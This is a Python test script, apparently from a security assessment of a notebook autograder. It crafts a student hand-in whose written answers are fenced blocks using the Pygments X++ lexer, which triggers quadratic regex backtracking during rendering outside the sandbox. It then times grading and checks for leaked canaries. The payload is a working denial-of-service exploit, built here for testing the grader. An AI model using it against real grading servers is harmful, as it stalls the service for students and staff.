"""a01: a written answer (a markdown cell the student owns) holding a fenced code block whose language is a Pygments
lexer chosen by the student. nbconvert's markdown2html_mistune highlights a fenced block with
get_lexer_by_name(<info string>), and Pygments has lexers whose regexes are quadratic on simple text: the X++ lexer
("xpp") on "a\\n" repeated (8,000 characters: about 50 s). The grader renders written answers with that function
twice, outside the sandbox: in autograde (grader.feedback.InertForTheBrowser, the graded notebook for Formgrader) and
on the feedback page (HideHiddenTests). Its limits (50,000 characters a cell, 2,000 tags, a notebook budget) are
checked on the source's length and on the HTML's tags *after* rendering, so the cost is paid before any check says
"plain text". The hostile hand-in is the untouched release with its two written answers replaced (CHARS characters
each). Graded as aa_honest, m1, zz_honest, after a baseline of aa_honest and zz_honest alone."""
import os, sys, time, json
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from u20 import *

A = "ps1_memory"
CHARS = int(os.environ.get("CHARS", "8000"))
LEXER = os.environ.get("LEXER", "xpp")
EXTRA = int(os.environ.get("EXTRA", "0"))  # markdown cells of the same answer added at the end (Inert renders every one)
ANSWER = "```" + LEXER + "\n" + "a\n" * (CHARS // 2) + "```\n"


def hostile():
    def mutate(nb):
        for c in nb.cells:
            if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") in ("written_ddp_fit", "written_pipeline_vs_sharding"):
                c.source = ANSWER
        for _ in range(EXTRA):
            nb.cells.append(nbformat.v4.new_markdown_cell(ANSWER))
    return notebook(A, mutate=mutate)


def run(tag, students):
    dest = course(tag, students)
    t0 = time.time()
    grade(dest, env=CANARY_ENV)
    total = time.time() - t0
    report(dest)
    scores(dest)
    for s, _ in students:
        p = f"{dest}/feedback/{s}/{A}/{A}.html"
        if os.path.exists(p):
            print(f"feedback page {s}: written {os.path.getmtime(p) - t0:.0f} s after the command started, {os.path.getsize(p):,} bytes")
        else:
            print(f"feedback page {s}: none")
    leftover = subprocess.run(["ps", "-u", str(UID), "-o", "pid,etimes,cmd"], capture_output=True, text=True).stdout
    print("processes of uid", UID, "after the run (other work on this machine may run as this uid too):")
    print("\n".join(l for l in leftover.splitlines() if "attack20u" in l or "PID" in l))
    out = open(os.path.join(dest, "grades.csv")).read() if os.path.exists(os.path.join(dest, "grades.csv")) else ""
    print("canary in grades.csv:", "secret" in out or "AKIASECRET" in out)
    cleanup(dest)
    print(f"== {tag}: the grading command took {total:.1f} s")
    return total


if __name__ == "__main__":
    if os.environ.get("SKIP_BASELINE") != "1":
        base = run("a01-base", {("aa_honest", A): honest(A), ("zz_honest", A): honest(A)})
    hostile_total = run("a01", {("aa_honest", A): honest(A), ("m1", A): hostile(), ("zz_honest", A): honest(A)})
